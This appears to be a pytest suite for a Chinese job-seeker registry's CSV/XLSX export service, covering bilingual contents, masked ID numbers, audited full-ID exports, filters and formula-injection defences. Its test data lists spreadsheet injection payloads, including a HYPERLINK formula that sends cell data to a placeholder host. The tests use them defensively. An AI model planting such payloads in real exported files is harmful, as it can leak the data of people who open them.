"""Exports of job seekers (services.reporting.exports), on SQLite and on PostgreSQL: contents in both
languages, masking, the audited full-ID export, filters, formula injection, empty results."""

from __future__ import annotations

import csv
import io
import re
import time
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import func, update
from sqlmodel import select

from models import AuditEvent, Seeker
from services.core.crypto import Vault
from services.core.db import unit_of_work
from services.places.sources import Source, create_fair, create_site
from services.registration.register import register_seeker, validate_registration
from services.reporting.exports import (
    FORMULA_TRIGGERS,
    DateField,
    ExportFilter,
    count_registrations,
    export_choices,
    export_full_ids,
    export_registrations,
    neutralize,
)
from tests.conftest import TEST_SECRET
from tests.factories import form, person_id

TODAY = date(2026, 11, 23)
NOON = datetime(2026, 11, 23, 4, 0, tzinfo=UTC)  # 12:00 in China
FULL_ID = re.compile(rb"\d{17}[\dXx]")
ZH_HEADERS = ["二维码编号", "姓名", "身份证号", "手机号", "性别", "年龄", "乡镇（街道）", "村（社区）", "文化程度",
              "技能", "求职意向", "期望月工资（元）", "愿意参加培训", "建档立卡贫困户", "能否外出务工", "登记时间",
              "登记来源", "还没填"]
EN_HEADERS = ["Ticket code", "Name", "ID number", "Mobile number", "Gender", "Age", "Township", "Village",
              "Education", "Trades and skills", "Employment intention", "Expected monthly wage (yuan)",
              "Willing to train", "Registered poor household", "Can leave home to work", "Registered at",
              "Registered through", "Not answered yet"]


def _register(engine, vault, county, n: int = 0, *, source: Source | None = None, now: datetime = NOON,
              sub: str | None = None, **overrides) -> int:
    fields = dict(id_number=person_id(n), phone=f"139{n:08d}")
    fields.update(overrides)
    draft = validate_registration(form(**fields), county=county, today=TODAY)
    return register_seeker(engine, vault, draft, source=source or Source.direct(),
                           submission_id=sub or f"s{n}-{now.isoformat()}", now=now).seeker_id


def _fair_source(engine, code: str = "SPRING26", name: str = "2026年春风行动招聘会") -> Source:
    fair = create_fair(engine, name=name, code=code, township="城关镇")
    return Source(kind="fair", fair_id=fair.id, name=fair.name, code=fair.code)


def _site_source(engine, code: str = "AZ-DAHE", name: str = "大河乡和谐社区安置点") -> Source:
    site = create_site(engine, name=name, code=code, township="大河乡")
    return Source(kind="site", site_id=site.id, name=site.name, code=site.code)


def _set(engine, seeker_id: int, **values) -> None:
    """Write values no form would accept, as a malicious import or a bug could."""
    with unit_of_work(engine) as s:
        s.execute(update(Seeker).where(Seeker.id == seeker_id).values(**values))


def _csv(engine, county, flt: ExportFilter | None = None, language: str = "zh_CN", **kw) -> tuple[bytes, list]:
    out = io.BytesIO()
    result = export_registrations(engine, out, vault=Vault.from_secret(TEST_SECRET), flt=flt or ExportFilter(),
                                  fmt="csv", language=language, county=county, today=TODAY, **kw)
    data = out.getvalue()
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert result.rows == len(rows) - 1
    return data, rows


def _xlsx_rows(data: bytes) -> list[tuple]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [tuple(c for c in row) for sheet in book.worksheets for row in sheet.iter_rows()]


def _ooxml(text: str) -> str:
    """Undo the _xHHHH_ escape XlsxWriter uses for control characters (openpyxl keeps it)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), text)


def _xlsx(engine, county, flt: ExportFilter | None = None, language: str = "zh_CN") -> tuple[bytes, list]:
    out = io.BytesIO()
    export_registrations(engine, out, vault=Vault.from_secret(TEST_SECRET), flt=flt or ExportFilter(), fmt="xlsx",
                         language=language, county=county, today=TODAY)
    return out.getvalue(), _xlsx_rows(out.getvalue())


def _unzipped(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return b"".join(z.read(name) for name in z.namelist())


def _audit(engine) -> list[AuditEvent]:
    with unit_of_work(engine, write=False) as s:
        return list(s.exec(select(AuditEvent)))


# --- contents -----------------------------------------------------------------------------------


def test_csv_in_chinese_with_labels_and_masked_numbers(engine, vault, county) -> None:
    fair = _fair_source(engine)
    _register(engine, vault, county, source=fair)
    data, rows = _csv(engine, county)
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    assert rows[0] == ZH_HEADERS
    with unit_of_work(engine, write=False) as s:
        ticket = s.exec(select(Seeker.ticket_code)).one()
    assert rows[1] == [
        ticket, "王秀兰", person_id()[:6] + "********" + person_id()[-4:], "139****0000", "女", "46", "城关镇",
        "东门村", "初中", "服装缝纫、保洁", "就近就业（本县或本市）", "4500", "是", "是", "否（照顾家庭）",
        "2026-11-23 12:00", "2026年春风行动招聘会", "",
    ]
    assert not FULL_ID.search(data) and b"13900000000" not in data


def test_xlsx_in_english_keeps_types(engine, vault, county) -> None:
    site = _site_source(engine)
    _register(engine, vault, county, source=site, trades=["welding"], township="大河乡", village="岩脚村",
              poor_household="no", leave_constraint="none", intention="go_out", expected_wage=None)
    data, rows = _xlsx(engine, county, language="en")
    assert [c.value for c in rows[0]] == EN_HEADERS
    values = {h: c for h, c in zip(EN_HEADERS, rows[1], strict=True)}
    assert values["Gender"].value == "Female" and values["Age"].value == 46 and values["Age"].data_type == "n"
    assert values["Township"].value == "Dahe Township" and values["Village"].value == "Yanjiao"
    assert values["Trades and skills"].value == "Electric welding"
    assert values["Employment intention"].value == "Go out to work in another province"
    assert values["Expected monthly wage (yuan)"].value is None
    assert values["Registered poor household"].value == "No" and values["Can leave home to work"].value == "Yes"
    assert values["Registered at"].value == datetime(2026, 11, 23, 12, 0)  # China time, a real date cell
    assert values["Registered through"].value == "大河乡和谐社区安置点"
    assert values["ID number"].value.startswith("530627********")
    assert not FULL_ID.search(_unzipped(data))


def test_directly_registered_and_trade_order(engine, vault, county) -> None:
    _register(engine, vault, county, trades=["cleaning", "welding", "garment_sewing"])
    _, rows = _csv(engine, county, language="en")
    assert rows[1][EN_HEADERS.index("Registered through")] == "Directly (no fair or site)"
    assert rows[1][EN_HEADERS.index("Trades and skills")] == "Electric welding, Garment sewing, Cleaning"


# --- full ID numbers ----------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_full_id_export_holds_real_numbers_and_is_audited(engine, vault, county, fmt: str) -> None:
    fair = _fair_source(engine)
    _register(engine, vault, county, 1, source=fair)
    _register(engine, vault, county, 2, source=fair, township="大河乡", village="大河村")
    _register(engine, vault, county, 3)  # not at the fair
    flt = ExportFilter(fair_id=fair.fair_id, township="城关镇", date_from=date(2026, 11, 1), date_to=TODAY)
    out = io.BytesIO()
    result = export_full_ids(engine, vault, out, actor="org1", flt=flt, fmt=fmt, language="zh_CN", county=county,
                             today=TODAY)
    assert result.rows == 1 and result.full_ids and "full-ids" in result.filename
    data = out.getvalue()
    if fmt == "csv":
        row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
        assert (row[2], row[3]) == (person_id(1), "13900000001")
    else:
        row = _xlsx_rows(data)[1]
        assert (row[2].value, row[2].data_type, row[3].value) == (person_id(1), "s", "13900000001")
    events = _audit(engine)
    assert len(events) == 1
    event = events[0]
    assert (event.actor, event.action) == ("org1", "export_full_ids")
    assert event.detail == {"filters": {"fair_id": fair.fair_id, "site_id": None, "township": "城关镇",
                                        "date_field": "checkin", "date_from": "2026-11-01",
                                        "date_to": "2026-11-23", "incomplete_only": False},
                            "rows": 1, "format": fmt}


def test_masked_export_is_not_audited(engine, vault, county) -> None:
    _register(engine, vault, county)
    _csv(engine, county)
    _xlsx(engine, county)
    assert _audit(engine) == []


def test_failed_full_id_export_logs_nothing_and_leaves_no_file(engine, vault, county) -> None:
    for n in range(5):
        _register(engine, vault, county, n)

    def progress(done: int, total: int) -> None:
        if done >= 2:
            raise RuntimeError("disk full")

    out = io.BytesIO()
    with pytest.raises(RuntimeError):
        export_full_ids(engine, vault, out, actor="org1", flt=ExportFilter(), fmt="csv", language="zh_CN",
                        county=county, progress=progress, batch=2)
    assert out.getvalue() == b""
    assert _audit(engine) == []


def test_registrations_go_on_during_a_full_id_export(engine, vault, county) -> None:
    """The export reads one snapshot and does not hold SQLite's write lock while it writes the file."""
    for n in range(3):
        _register(engine, vault, county, n)
    registered: list[float] = []

    def progress(done: int, total: int) -> None:
        if done == 2 and not registered:  # mid-export, as at a fair
            started = time.perf_counter()
            _register(engine, vault, county, 9)
            registered.append(time.perf_counter() - started)

    out = io.BytesIO()
    result = export_full_ids(engine, vault, out, actor="org1", flt=ExportFilter(), fmt="csv", language="en",
                             county=county, progress=progress, batch=2)
    assert registered and registered[0] < 2  # not waiting for a lock (SQLite's busy timeout is 10 s)
    assert result.rows == 3 and len(list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))) == 4
    assert [e.detail["rows"] for e in _audit(engine)] == [3]
    assert count_registrations(engine, ExportFilter()) == 4


def test_full_id_export_needs_an_actor(engine, vault, county) -> None:
    with pytest.raises(ValueError):
        export_full_ids(engine, vault, io.BytesIO(), actor="", flt=ExportFilter(), fmt="csv", language="en",
                        county=county)
    assert _audit(engine) == []


# --- filters ------------------------------------------------------------------------------------


def _ids(engine, county, flt: ExportFilter) -> set[str]:
    _, rows = _csv(engine, county, flt)
    assert count_registrations(engine, flt) == len(rows) - 1  # the preview matches the file
    return {r[1] for r in rows[1:]}


def test_filters_by_fair_site_township_and_china_dates(engine, vault, county) -> None:
    fair, other_fair, site = _fair_source(engine), _fair_source(engine, "AUTUMN", "秋季招聘会"), _site_source(engine)
    nov1 = datetime(2026, 11, 1, 2, 0, tzinfo=UTC)
    # 16:30 UTC on 21 November is 00:30 on 22 November in China
    late = datetime(2026, 11, 21, 16, 30, tzinfo=UTC)
    _register(engine, vault, county, 1, name="甲某某", source=fair, now=nov1)
    _register(engine, vault, county, 1, name="甲某某", source=site, now=late)  # re-registered at the site
    _register(engine, vault, county, 2, name="乙某某", source=site, now=nov1, township="大河乡", village="大河村")
    _register(engine, vault, county, 3, name="丙某某", source=other_fair, now=NOON)
    _register(engine, vault, county, 4, name="丁某某", now=late)

    assert _ids(engine, county, ExportFilter()) == {"甲某某", "乙某某", "丙某某", "丁某某"}
    assert _ids(engine, county, ExportFilter(fair_id=fair.fair_id)) == {"甲某某"}
    assert _ids(engine, county, ExportFilter(site_id=site.site_id)) == {"甲某某", "乙某某"}
    assert _ids(engine, county, ExportFilter(township="大河乡")) == {"乙某某"}
    assert _ids(engine, county, ExportFilter(site_id=site.site_id, township="城关镇")) == {"甲某某"}
    day22 = dict(date_from=date(2026, 11, 22), date_to=date(2026, 11, 22))
    assert _ids(engine, county, ExportFilter(**day22)) == {"甲某某", "丁某某"}  # check-ins on the 22nd
    assert _ids(engine, county, ExportFilter(date_from=date(2026, 11, 21), date_to=date(2026, 11, 21))) == set()
    assert _ids(engine, county, ExportFilter(date_field=DateField.REGISTERED, **day22)) == {"丁某某"}
    assert _ids(engine, county, ExportFilter(date_field="registered", date_to=date(2026, 11, 1))) == {
        "甲某某", "乙某某"}
    assert _ids(engine, county, ExportFilter(site_id=site.site_id, **day22)) == {"甲某某"}
    assert _ids(engine, county, ExportFilter(fair_id=fair.fair_id, **day22)) == set()  # fair visit was on 1 Nov
    assert _ids(engine, county, ExportFilter(date_from=TODAY)) == {"丙某某"}


def test_filter_refuses_contradictions() -> None:
    with pytest.raises(ValueError):
        ExportFilter(fair_id=1, site_id=2)
    with pytest.raises(ValueError):
        ExportFilter(date_from=date(2026, 2, 1), date_to=date(2026, 1, 1))


def test_choices_list_fairs_and_sites(engine) -> None:
    fair, site = _fair_source(engine), _site_source(engine)
    choices = export_choices(engine)
    assert [(p.id, p.name) for p in choices.fairs] == [(fair.fair_id, fair.name)]
    assert [(p.id, p.code) for p in choices.sites] == [(site.site_id, "AZ-DAHE")]


# --- empty results and progress -----------------------------------------------------------------


def test_empty_result_is_a_header_only_file(engine, vault, county) -> None:
    _register(engine, vault, county)
    flt = ExportFilter(township="大河乡")
    _, rows = _csv(engine, county, flt)
    assert rows == [ZH_HEADERS]
    _, rows = _xlsx(engine, county, flt, language="en")
    assert [[c.value for c in r] for r in rows] == [EN_HEADERS]
    out = io.BytesIO()
    assert export_full_ids(engine, vault, out, actor="org1", flt=flt, fmt="csv", language="en",
                           county=county).rows == 0
    assert _audit(engine)[0].detail["rows"] == 0


def test_xlsx_continues_on_a_new_sheet_when_one_is_full(engine, vault, county, monkeypatch) -> None:
    for n in range(5):
        _register(engine, vault, county, n)
    monkeypatch.setattr("services.reporting.exports.writers.XLSX_MAX_ROWS", 3)  # Excel's limit is 1,048,576 rows
    data, _ = _xlsx(engine, county, language="en")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Job seekers", "Job seekers 2", "Job seekers 3"]
    sheets = [[[c.value for c in row] for row in ws.iter_rows()] for ws in book.worksheets]
    assert [len(s) for s in sheets] == [3, 3, 2] and all(s[0] == EN_HEADERS for s in sheets)


def test_rows_stream_in_batches_with_progress(engine, vault, county) -> None:
    for n in range(5):
        _register(engine, vault, county, n)
    calls: list[tuple[int, int]] = []
    _csv(engine, county, progress=lambda done, total: calls.append((done, total)), batch=2)
    assert calls == [(0, 5), (2, 5), (4, 5), (5, 5)]


# --- formula injection --------------------------------------------------------------------------

MALICIOUS = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\t=1", "\r=1", "\x00=1",
             '=HYPERLINK("http://x.invalid/?"&A2,"Click")', "@SUM(1)"]


def _malicious_seekers(engine, vault, county) -> list[str]:
    """Seekers whose name and village are the texts; PostgreSQL cannot store NUL, SQLite can."""
    texts = [t for t in MALICIOUS if engine.dialect.name == "sqlite" or "\x00" not in t]
    for n, text in enumerate(texts):
        seeker_id = _register(engine, vault, county, n)
        _set(engine, seeker_id, name=text, village=text, expected_wage=-500 - n)
    return texts


def test_formula_injection_is_neutralized_in_csv(engine, vault, county) -> None:
    texts = _malicious_seekers(engine, vault, county)
    _, rows = _csv(engine, county)
    name, village, wage = ZH_HEADERS.index("姓名"), ZH_HEADERS.index("村（社区）"), ZH_HEADERS.index("期望月工资（元）")
    assert [r[name] for r in rows[1:]] == ["'" + t for t in texts]
    assert [r[village] for r in rows[1:]] == ["'" + t for t in texts]
    assert [r[wage] for r in rows[1:]] == [str(-500 - n) for n in range(len(texts))]  # numbers stay numbers
    for row in rows:
        for i, cell in enumerate(row):
            assert i == wage or not cell.startswith(FORMULA_TRIGGERS), (i, cell)


def test_formula_injection_is_neutralized_in_xlsx(engine, vault, county) -> None:
    texts = _malicious_seekers(engine, vault, county)
    data, rows = _xlsx(engine, county)
    name, village, wage = ZH_HEADERS.index("姓名"), ZH_HEADERS.index("村（社区）"), ZH_HEADERS.index("期望月工资（元）")
    assert [_ooxml(r[name].value) for r in rows[1:]] == ["'" + t for t in texts]
    assert [_ooxml(r[village].value) for r in rows[1:]] == ["'" + t for t in texts]
    assert [(r[wage].value, r[wage].data_type) for r in rows[1:]] == [(-500 - n, "n") for n in range(len(texts))]
    for row in rows:
        for cell in row:
            assert cell.data_type != "f"  # no formula anywhere
            if isinstance(cell.value, str):
                assert not _ooxml(cell.value).startswith(FORMULA_TRIGGERS), cell.value
    assert b"<f>" not in _unzipped(data)


@given(st.text())
def test_neutralize_property(text: str) -> None:
    out = neutralize(text)
    assert not out.startswith(FORMULA_TRIGGERS)
    if text.startswith(FORMULA_TRIGGERS):
        assert out == "'" + text and out[1:] == text
    else:
        assert out == text


@pytest.mark.parametrize("text", ["-5", "=1+1", "+86 139", "@", "\t", "\r", "\x00", "'=x"])
def test_neutralize_examples(text: str) -> None:
    assert neutralize(text) == ("'" + text if text[0] in "=+-@\t\r\x00" else text)


def test_count_matches_table(engine, vault, county) -> None:
    for n in range(3):
        _register(engine, vault, county, n)
    with unit_of_work(engine, write=False) as s:
        assert s.exec(select(func.count()).select_from(Seeker)).one() == count_registrations(engine, ExportFilter())


# --- incomplete profiles (issue 10) ---------------------------------------------------------------


def _incomplete_world(engine, vault, county) -> dict[str, int]:
    from tests.profile_support import ANSWERS, register_ticket_only

    return {
        "complete": _register(engine, vault, county, 0),
        "ticket_only": register_ticket_only(engine, vault, 1, name="赵小满").seeker_id,
        "partly": register_ticket_only(engine, vault, 2, name="钱多多", answered={
            "trades": ANSWERS["trades"], "place": ANSWERS["place"], "poor_household": ANSWERS["poor_household"],
        }).seeker_id,
    }


def test_unanswered_values_are_empty_cells_and_the_missing_groups_are_named(engine, vault, county) -> None:
    _incomplete_world(engine, vault, county)
    data, rows = _csv(engine, county, language="en")
    by_name = {r[EN_HEADERS.index("Name")]: dict(zip(EN_HEADERS, r, strict=True)) for r in rows[1:]}
    assert b"None" not in data
    assert by_name["王秀兰"]["Not answered yet"] == ""
    ticket_only = by_name["赵小满"]
    for header in ("Education", "Trades and skills", "Employment intention", "Expected monthly wage (yuan)",
                   "Willing to train", "Registered poor household", "Can leave home to work"):
        assert ticket_only[header] == "", header  # empty, not "None" and not a guessed "No"
    assert ticket_only["Not answered yet"] == ("Trades and skills, Where to work, Education, Expected monthly "
                                               "wage, Skills training, Registered poor household")
    partly = by_name["钱多多"]
    assert (partly["Trades and skills"], partly["Registered poor household"], partly["Can leave home to work"]) \
        == ("Electric welding", "No", "Yes")
    assert (partly["Education"], partly["Willing to train"]) == ("", "")
    assert partly["Not answered yet"] == "Education, Expected monthly wage, Skills training"
    _, xrows = _xlsx(engine, county, language="en")
    cells = {r[EN_HEADERS.index("Name")].value: dict(zip(EN_HEADERS, r, strict=True)) for r in xrows[1:]}
    assert cells["赵小满"]["Education"].value is None and cells["赵小满"]["Willing to train"].value is None


def test_only_incomplete_profiles_for_staff_to_call(engine, vault, county) -> None:
    ids = _incomplete_world(engine, vault, county)
    flt = ExportFilter(incomplete_only=True)
    assert count_registrations(engine, flt) == 2
    _, rows = _csv(engine, county, flt, language="en")
    assert sorted(r[EN_HEADERS.index("Name")] for r in rows[1:]) == ["赵小满", "钱多多"]
    assert all(r[-1] for r in rows[1:])  # each names what is missing
    assert count_registrations(engine, ExportFilter(incomplete_only=True, township="大河乡")) == 0
    assert count_registrations(engine, ExportFilter()) == len(ids)
    assert flt.as_dict()["incomplete_only"] is True  # the audit log records it
